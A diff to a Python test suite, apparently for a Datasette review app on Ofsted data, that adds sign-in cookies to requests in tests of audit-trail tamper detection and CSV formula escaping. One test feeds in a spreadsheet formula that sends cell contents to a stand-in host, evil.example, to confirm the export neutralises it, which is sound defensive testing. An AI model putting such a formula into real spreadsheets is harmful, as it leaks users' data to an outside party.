@@ -883,16 +883,16 @@ async def test_history_is_chained_and_a_rewrite_around_the_guards_shows_on_the_h
     cookies, headers = await signed_in(ds, "alice")
     for status in ("resolved", "not_revisited", "recurring"):
         assert (await post_review(ds, cookies, headers, finding["id"], status)).status_code == 200
-    trail = (await ds.client.get(f"{PAIR}/reviews.json")).json()["audit_trail"]
+    trail = (await ds.client.get(f"{PAIR}/reviews.json", cookies=cookies)).json()["audit_trail"]
     assert trail == {"intact": True, "reviews": 3, "broken_at": None, "reason": None}
-    assert "The audit trail is intact" in (await ds.client.get(f"{PAIR}/reviews")).text
+    assert "The audit trail is intact" in (await ds.client.get(f"{PAIR}/reviews", cookies=cookies)).text
     # Someone with the file drops the guard and rewrites the second review's status.
     with sqlite3.connect(reviews_db) as conn:
         conn.execute("drop trigger reviews_no_update")
         conn.execute("update reviews set status = 'resolved', actor_id = 'mallory' where id = 2")
-    trail = (await ds.client.get(f"{PAIR}/reviews.json")).json()["audit_trail"]
+    trail = (await ds.client.get(f"{PAIR}/reviews.json", cookies=cookies)).json()["audit_trail"]
     assert not trail["intact"] and trail["broken_at"] == 2 and trail["reviews"] == 1
-    assert "tampered with" in (await ds.client.get(f"{PAIR}/reviews")).text
+    assert "tampered with" in (await ds.client.get(f"{PAIR}/reviews", cookies=cookies)).text
     # Checked when the reviews database is opened; the guard comes back.
     await serve(ds.databases["ofsted"].path, reviews_db)
     assert "review #2" in capsys.readouterr().err
@@ -969,10 +969,10 @@ async def test_a_review_whose_improvement_is_gone_shows_as_orphaned(ds, reviews_
     # A rebuild reads an item differently: its review's key no longer names an improvement of the pair.
     with sqlite3.connect(reviews_db) as conn:
         insert_review(conn, {**BLANK_REVIEW, "note": "on the old reading"})
-    data = (await ds.client.get(f"{PAIR}/reviews.json")).json()
+    data = (await ds.client.get(f"{PAIR}/reviews.json", cookies=cookies)).json()
     assert [(r["note"], r["orphaned"]) for r in data["reviews"]] == [("on the old reading", True), ("", False)]
     assert data["orphaned"] == 1
-    page = (await ds.client.get(f"{PAIR}/reviews")).text
+    page = (await ds.client.get(f"{PAIR}/reviews", cookies=cookies)).text
     assert "on the old reading" in page and "orphaned</span>" in page
 
 
@@ -988,7 +988,7 @@ async def test_notes_that_are_not_plain_text_are_refused_and_formulas_stay_text(
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     for note in (formula, "+1", "-1", "@SUM(A1)", "line one\nline two"):
         assert (await post_review(ds, cookies, headers, finding["id"], "resolved", note)).status_code == 200
-    csv_text = (await ds.client.get("/ofsted_reviews/reviews.csv?_size=max", follow_redirects=True)).text
+    csv_text = (await ds.client.get("/ofsted_reviews/reviews.csv?_size=max", cookies=cookies, follow_redirects=True)).text
     notes = [row["note"] for row in csv.DictReader(io.StringIO(csv_text))]
     assert notes[:4] == ["'" + formula, "'+1", "'-1", "'@SUM(A1)"] and notes[4] == "line one\nline two"
     assert not any(n.startswith(("=", "+", "-", "@")) for n in notes)
